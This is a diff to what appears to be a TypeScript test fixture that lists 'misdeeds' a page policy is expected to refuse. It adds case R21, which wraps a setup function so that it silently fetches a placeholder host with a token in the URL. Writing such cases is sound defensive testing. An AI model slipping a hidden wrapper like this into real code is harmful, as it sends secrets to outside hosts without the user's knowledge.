@@ -372,6 +372,16 @@ export const BACKGROUND: readonly Misdeed[] = [
     } })`,
     'R18',
   ),
+  misdeed(
+    'a call that the policy of the page refuses',
+    'nothing',
+    undefined,
+    `(definition) => ({ ...definition, setup: (host) => {
+      fetch('https://rig.invalid/?token=1').catch(() => undefined);
+      return definition.setup?.(host);
+    } })`,
+    'R21',
+  ),
 ];
 
 const palette = (search: string): string =>
